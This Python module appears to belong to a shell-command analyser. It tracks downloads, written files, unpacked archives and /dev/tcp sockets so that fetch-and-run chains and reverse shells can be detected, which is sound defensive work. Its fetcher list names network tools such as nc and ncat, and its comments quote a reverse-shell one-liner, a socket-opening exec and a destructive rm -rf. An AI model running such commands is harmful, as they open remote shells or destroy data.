"""State that all scripts of one line share while it is read: commands found so far, files written, scripts made."""

from __future__ import annotations

import posixpath
from collections.abc import Iterator, Sequence
from typing import TYPE_CHECKING, Final, NamedTuple
from urllib.parse import urlsplit

from bus.lazy.regex import lazy_regex
from bus.shell.budget import FULL, Budget
from bus.shell.commands import Command
from bus.shell.inner import Arg, Inner, names, read_options
from bus.shell.interpreters import find_interpreter
from bus.shell.programs.code_files import code_files
from bus.shell.programs.made_files import file_scripts, runs_later
from bus.shell.script_runners import SHELLS
from bus.shell.words import MAYBE_EMPTY, UNKNOWN, UNSET, Output, is_hidden

if TYPE_CHECKING:  # the parser is loaded by the first command only (30 ms, measured)
    from tree_sitter import Node

_FETCHERS: Final = frozenset(
    ["curl", "wget", "aria2c", "http", "https", "xh", "fetch", "lynx", "axel", "gh", "nc", "ncat"]
)
_PASSES_ON: Final = frozenset({"tee", "mv", "cp", "install", "ln"})
_CURL: Final = names(
    "-o -H -X -d -u -A -e -b -c -x -m -w -T -F -E -K -y -Y -z -C -r --output --header --request --data --user --user-agent"
    " --referer --cookie --proxy --max-time --connect-timeout --retry --output-dir --data-raw --url --form --cacert --cert"
)
_WGET: Final = names(
    "-O -o -P -a -t -T -U -e -i -w -Q --output-document --directory-prefix --tries --timeout --user-agent --header --user"
)
_SHELL_VALUES: Final = names("-o +o -O +O --rcfile --init-file")
_UNPACKS: Final = frozenset({"tar", "gtar", "bsdtar", "unzip", "7z", "cpio"})
_INSTALLER: Final = lazy_regex(r"(?i)(?:install|setup|bootstrap)[\w.-]*|[\w.-]+\.(?:sh|bash|run)")
"""Scripts of an unpacked archive that people run unread; `./configure` and the products of a build are not among them."""
_DELETERS: Final = frozenset({"rm", "srm", "grm", "rimraf"})
_OUTPUT: Final = UNKNOWN + UNSET + MAYBE_EMPTY + "/"
_MOST: Final = 2048
_LONGEST: Final = FULL.length


SOCKET: Final = "nc"
"""The program noted as the source of what a shell reads from `/dev/tcp/host/port`."""


def is_socket(path: str) -> bool:
    """Whether a shell opens a connection to another machine for this path."""
    return path.startswith(("/dev/tcp/", "/dev/udp/"))


def is_special(redirects: Sequence[tuple[str, str]]) -> bool:
    """Whether one of these redirections opens a connection, or writes what runs later."""
    return any(is_socket(target) or runs_later(target) for _, target in redirects)


def _names_socket(redirect: tuple[str, str]) -> bool:
    return is_socket(redirect[1])


def may_write(program: str) -> bool:
    """Whether a program may write files that later commands run, beside its redirections."""
    return program in _FETCHERS or program in _PASSES_ON or program in _UNPACKS


class Files:
    """The files that the commands so far have downloaded and written, by path."""

    def __init__(self) -> None:
        self.sources: dict[str, tuple[str, ...]] = {}
        self.texts: dict[str, str] = {}
        self.unpacked: tuple[str, ...] = ()
        """The programs that fetched an archive which the line has unpacked."""
        self.socket = False
        """Whether a descriptor is open to the network: `exec 3<>/dev/tcp/host/80`."""

    def __bool__(self) -> bool:
        """Whether the line has made anything that it may run."""
        return bool(self.sources or self.texts or self.unpacked or self.socket)

    def keep(self, text: str | None) -> str | None:
        """Keep `text`, the output of `<(…)`, as a file. Returns its path; None where the output is not known."""
        if text is None or len(text) > _LONGEST or len(self.texts) > _MOST:
            return None
        path = f"/dev/fd/{63 + len(self.texts)}"
        self.texts[path] = text
        return path

    def note(self, command: Command, text: str | None) -> None:
        """Note the files that a command writes; `text` is its output where that is known."""
        program = command.program
        if program in _UNPACKS:
            piped = tuple(name for name in command.piped_from if name in _FETCHERS)
            self.unpacked = piped or self.read_by(command) or self.unpacked
        if not command.redirects and not may_write(program):
            return
        targets = [(sign, target) for sign, target in command.redirects if sign[:1] in (">", "&")]
        if program == "tee":
            targets += [(">", word) for word in command.words if not word.startswith("-")]
            text = command.stdin if text is None else text
        fetched = tuple([name for name in (*command.piped_from, program) if name in _FETCHERS])
        known = fetched or (text is not None and len(text) <= _LONGEST)
        for sign, target in targets[:_MOST] if known else ():
            path = _path(command, target)
            if not path or len(self.texts) > _MOST:
                continue
            if fetched:
                self.sources[path] = fetched
            elif text is not None:
                before = self.texts.get(path, "") if sign.endswith(">>") else ""
                self.texts[path] = f"{before}\n{text}" if before else text
        if command.program in _FETCHERS:
            for path in _downloads(command):
                if path and len(self.sources) <= _MOST:
                    self.sources[path] = (command.program,)
        elif command.program in ("mv", "cp", "install", "ln") and (self.sources or self.texts):
            self._copy(command)

    def _copy(self, command: Command) -> None:
        words = [word for word in command.words if not word.startswith("-")]
        for source in words[:-1]:
            path, target = _path(command, source), _path(command, words[-1])
            for place in (target, posixpath.join(target, posixpath.basename(path))) if path and target else ():
                if path in self.sources:
                    self.sources[place] = self.sources[path]
                if path in self.texts:
                    self.texts[place] = self.texts[path]

    def with_input(self, call: CommandContext, directory: str) -> CommandContext:
        """The context of a command with the text of a file that the line has made, where it reads one: `ssh h sh < x.sh`."""
        if call.stdin.text is None:
            for sign, target in call.redirects:
                if (
                    sign == "<"
                    and (text := self.texts.get(_path(Command("", directory=directory), target))) is not None
                ):
                    return call._replace(stdin=Output(text))
        return call

    def shown_by(self, command: Command) -> str | None:
        """The output of a `cat` whose files were all made by the line; else None."""
        if command.program != "cat" or not self.texts:
            return None
        found = [self.texts.get(_path(command, word)) for word in command.words if word[:1] != "-"]
        known = [text for text in found if text is not None]
        return "\n".join(known) if known and len(known) == len(found) else None

    def read_by(self, command: Command) -> tuple[str, ...]:
        """The programs that wrote the files among a command's arguments: for `cat i.sh`, those that wrote i.sh."""
        if not self.sources and not command.redirects:
            return ()
        words = (*command.words, *(target for sign, target in command.redirects if "<" in sign))
        found = tuple(one for word in words for one in self.sources.get(_path(command, word), ()))
        return (*found, SOCKET) if any(is_socket(word) for word in words) else found

    def script_of(self, command: Command, word: str) -> tuple[str | None, tuple[str, ...]]:
        """The text of the file that a command runs as its program or script, and the programs that wrote the file."""
        if any(is_socket(target) for _, target in command.redirects):
            self.socket = True
            if command.program in SHELLS or find_interpreter(command.program):
                return None, (SOCKET,)  # bash -i >& /dev/tcp/host/80 0>&1
        if not self.sources and not self.texts and not self.unpacked:
            return None, (SOCKET,) if self.socket and command.program in SHELLS and not command.words else ()
        path = _path(command, _script(command, word))
        sources = self.sources.get(path, ())
        if not sources and self.unpacked and _INSTALLER.fullmatch(posixpath.basename(path)):
            sources = self.unpacked
        return self.texts.get(path), sources


def _script(command: Command, word: str) -> str:
    """The file that a command runs; empty where it runs none. `word` is its first word, as it is written."""
    args = [Arg(text) for text in command.words]
    if command.program in SHELLS:
        options = read_options(args, _SHELL_VALUES)
        if options.has("-c", "-s"):
            return ""
        operand = args[options.end].text if options.end < len(args) else ""
        return operand or next((target for sign, target in command.redirects if sign == "<"), "")
    if command.program in ("source", "."):
        return command.words[0] if command.words else ""
    if command.program in ("powershell", "pwsh"):
        return next((text for text in command.words if text.lower().endswith(".ps1")), "")
    if find_interpreter(command.program):
        options = read_options(args, frozenset())
        return "" if options.has("-c", "-e", "-m", "-r") or options.end >= len(args) else args[options.end].text
    return word if "/" in word else ""


def _downloads(command: Command) -> Iterator[str]:
    """The files that a download writes beside its redirections."""
    args = [Arg(word) for word in command.words]
    values = _WGET if command.program == "wget" else _CURL
    items: list[tuple[str, str]] = []
    operands: list[str] = []
    place = 0
    while place < len(args):
        options = read_options(args, values, start=place)
        items += [(name, value.text) for name, value in options.items]
        operands += [arg.text for arg in args[options.end : options.end + 1]]
        place = options.end + 1
    given = dict(items)
    folder = given.get("--output-dir") or given.get("-P") or given.get("--directory-prefix") or ""
    if command.program == "wget":
        named = [value for name, value in items if name in ("-O", "--output-document")]
        found = named or [_basename(url) for url in operands]
    else:
        found = [value for name, value in items if name in ("-o", "--output", "-O", "--out")]
        if (
            "-O" in given
            or "--remote-name" in given
            or "--remote-name-all" in given
            or command.program in ("aria2c", "axel")
        ):
            found += [_basename(url) for url in operands]
    for file in found:
        if file and file != "-":
            yield _path(command, posixpath.join(folder, file))


def _basename(url: str) -> str:
    try:
        path = urlsplit(url if "://" in url else f"//{url}").path if "[" not in url else url
    except ValueError:  # it is no address: `http://a]b/c`
        path = url
    return posixpath.basename(path) or "index.html"


def _path(command: Command, word: str) -> str:
    """One spelling of a path for one file; empty where nothing of it is known."""
    if not word.strip(UNKNOWN + UNSET + MAYBE_EMPTY):
        return ""
    plain = word if word.startswith(("/", "~")) else posixpath.join(command.directory, word)
    return posixpath.normpath(plain)


_MAX_NODES_DEEP: Final = 120
"""Deepest nesting of syntax that is read. Python's own stack ends not far beyond it."""

NOTHING: Final = Output()


class LineState:
    """State that all scripts of one line share: the commands so far, the functions, and how deep the reader is."""

    __slots__ = (
        "aliases",
        "budget",
        "depth",
        "files",
        "functions",
        "incomplete",
        "items",
        "redirected",
        "too_deep",
        "unread",
    )

    def __init__(self, budget: Budget) -> None:
        self.budget = budget
        self.items: list[Command] = []
        self.functions: dict[str, tuple[bytes, Node]] = {}
        """The functions by name: the source that defines each, and its body."""
        self.aliases: dict[str, str] = {}
        self.files = Files()
        self.redirected = False
        """A command so far has a redirection."""
        self.incomplete = False
        self.unread: set[str] = set()
        """The raw names (`bus.shell.parsing`) of the parts that could not be parsed."""
        self.depth = 0
        self.too_deep = False

    @property
    def is_fresh(self) -> bool:
        """Whether no command so far has made an alias, a function or a file that a later one may run or read."""
        return not (self.aliases or self.functions or self.redirected or self.files)

    @property
    def reads_files(self) -> bool:
        """Whether a command of the line may read a file that an earlier command, or the network, has filled."""
        files = self.files
        return bool(self.redirected or files.sources or files.texts or files.socket)

    def add(self, command: Command, args: list[Arg]) -> None:
        """Add a command. The programs whose output is an operand of a delete count as its earlier stages.

        `rm -rf $(cat list)` is `cat list | xargs rm -rf`. An operand that is only in part an output does not count.
        """
        if command.program in _DELETERS:
            listed = [
                name
                for arg in args
                if arg.sources and is_hidden(arg.text) and not arg.text.strip(_OUTPUT)
                for name in arg.sources
            ]
            if more := tuple(dict.fromkeys(name for name in listed if name not in command.piped_from)):
                command = command._replace(piped_from=(*command.piped_from, *more))
        self.items.append(command)

    def may_go_on(self) -> bool:
        """Whether the budget and Python's stack allow to read a further part."""
        if self.depth > _MAX_NODES_DEEP:
            self.too_deep = True
        return not self.too_deep and not self.budget.stopped


class CommandContext(NamedTuple):
    """The context of a simple command: input, assignments, redirections, and the stages before it."""

    stdin: Output = NOTHING
    assignments: tuple[tuple[str, str], ...] = ()
    redirects: tuple[tuple[str, str], ...] = ()
    piped_from: tuple[str, ...] = ()

    @property
    def reads(self) -> bool:
        """Whether its standard input is a pipe, a file or a text of the line."""
        return bool(self.piped_from) or self.stdin != NOTHING or any(sign == "<" for sign, _ in self.redirects)


def together(texts: list[str | None]) -> str | None:
    """The output of several statements, one after the other; None where that of one is not known."""
    known = [text for text in texts if text is not None]
    return "\n".join(text for text in known if text) if known and len(known) == len(texts) else None


def scripts_made(found: LineState, command: Command, word: str, inside: tuple[str, ...]) -> list[Inner]:
    """The scripts of this line that a command runs; `word` is its first word, `inside` the aliases that are being read."""
    if not found.aliases and not found.files and not any(map(_names_socket, command.redirects)):
        return []  # as most lines are
    made: list[Inner] = []
    if word in found.aliases and word not in inside:
        made.append(Inner(script=" ".join((found.aliases[word], *command.words)), alias=word))
    text, sources = found.files.script_of(command, word)
    if sources:
        made.append(Inner(sources=sources))
    if found.files.texts:
        made += file_scripts(command, found.files.texts, _path)
        made += code_files(command, found.files.texts, _path, text)
    interpreter = find_interpreter(command.program)
    if text is not None and interpreter is not None:
        made += interpreter((), Output(text))
    elif text is not None:
        made.append(Inner(script=text, parameters=(word, *command.words)))
    return made
